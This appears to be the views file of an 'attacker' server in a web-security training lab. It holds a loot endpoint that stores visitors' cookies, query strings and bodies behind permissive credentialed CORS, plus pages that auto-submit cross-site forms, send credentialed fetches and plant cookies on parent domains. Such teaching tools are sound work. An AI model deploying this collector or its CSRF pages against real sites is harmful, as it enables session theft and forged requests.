"""Collect loot, show it, and serve the pages that make a visitor's browser send something elsewhere.

Those pages take what they do from their own address, so that a lesson's link says all there is to it.
"""

import base64
from collections.abc import Callable
from functools import wraps
from http.cookies import CookieError
from urllib.parse import unquote

from django.http import HttpRequest, HttpResponse, JsonResponse
from django.shortcuts import render
from django.views.decorators.cache import never_cache
from django.views.decorators.csrf import csrf_exempt

from .models import Loot
from .targets import NoTarget, target

View = Callable[[HttpRequest], HttpResponse]

# One transparent pixel, for an `<img>`.
PIXEL = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")

FIELDS = ("id", "at", "method", "query", "body", "cookies", "origin", "referer")


def open_to_every_origin(view: View) -> View:
    """Return the view, with CORS headers that let a script of any page read it (Fetch standard, 3.2)."""

    @wraps(view)
    def wrapped(request: HttpRequest) -> HttpResponse:
        response = HttpResponse(status=204) if request.method == "OPTIONS" else view(request)
        response["Access-Control-Allow-Origin"] = request.headers.get("Origin", "*")
        response["Access-Control-Allow-Credentials"] = "true"
        response["Access-Control-Allow-Headers"] = request.headers.get("Access-Control-Request-Headers", "")
        response["Access-Control-Allow-Methods"] = "GET, POST"
        return response

    return wrapped


def explained(view: View) -> View:
    """Return the view, with what it refuses answered by a 400 and the reason in plain text."""

    @wraps(view)
    def wrapped(request: HttpRequest) -> HttpResponse:
        try:
            return view(request)
        except (NoTarget, CookieError) as error:
            return HttpResponse(f"{error}\n", status=400, content_type="text/plain; charset=utf-8")

    return wrapped


@csrf_exempt
@never_cache
@open_to_every_origin
def loot(request: HttpRequest) -> HttpResponse:
    """Store this request in the table of loot, whatever is in it."""
    Loot.objects.create(
        method=request.method or "",
        query=unquote(request.META["QUERY_STRING"]),
        body=request.body.decode(errors="replace"),
        cookies=request.headers.get("Cookie", ""),
        origin=request.headers.get("Origin", ""),
        referer=request.headers.get("Referer", ""),
    )
    if request.headers.get("Accept", "").startswith("image/"):
        return HttpResponse(PIXEL, content_type="image/gif")
    return HttpResponse(status=204)  # nothing to wait for; a browser that was sent here stays where it is


@never_cache
@open_to_every_origin
def loot_json(request: HttpRequest) -> JsonResponse:
    """Return the loot as JSON, oldest first."""
    return JsonResponse(list(Loot.objects.values(*FIELDS)), safe=False)


@never_cache
def index(request: HttpRequest) -> HttpResponse:
    """Show the loot as a page, newest first."""
    return render(request, "attacker/index.html", {"loot": Loot.objects.order_by("-id")})


@explained
def form(request: HttpRequest) -> HttpResponse:
    """Show a page with a form that sends itself: `?action=URL&method=post&enctype=...&NAME=VALUE...`."""
    fields = request.GET.copy()
    action = target(fields.pop("action", [""])[-1])
    context = {
        "action": action,
        "method": fields.pop("method", ["post"])[-1],
        "enctype": fields.pop("enctype", ["application/x-www-form-urlencoded"])[-1],
        "fields": [(name, value) for name, values in fields.lists() for value in values],
    }
    return render(request, "attacker/form.html", context)


@explained
def fetch(request: HttpRequest) -> HttpResponse:
    """Show a page whose script sends one request with cookies, and says what it could read of the answer.

    `?url=URL&method=POST&mode=cors&body=...&header=Name: value&header=...`
    """
    headers = [header.partition(":") for header in request.GET.getlist("header")]
    context = {
        "url": target(request.GET.get("url", "")),
        "options": {
            "method": request.GET.get("method", "GET"),
            "mode": request.GET.get("mode", "cors"),
            "body": request.GET.get("body"),
            "headers": {name.strip(): value.strip() for name, _, value in headers},
        },
    }
    return render(request, "attacker/fetch.html", context)


@explained
def toss(request: HttpRequest) -> HttpResponse:
    """Set a cookie, for a domain above its own too: `?name=...&value=...&domain=...&path=/`."""
    cookie = {part: request.GET.get(part, "") for part in ("name", "value", "domain", "path")}
    response = render(request, "attacker/toss.html", {"cookie": cookie})
    response.set_cookie(
        cookie["name"], cookie["value"], domain=cookie["domain"] or None, path=cookie["path"] or "/"
    )
    return response
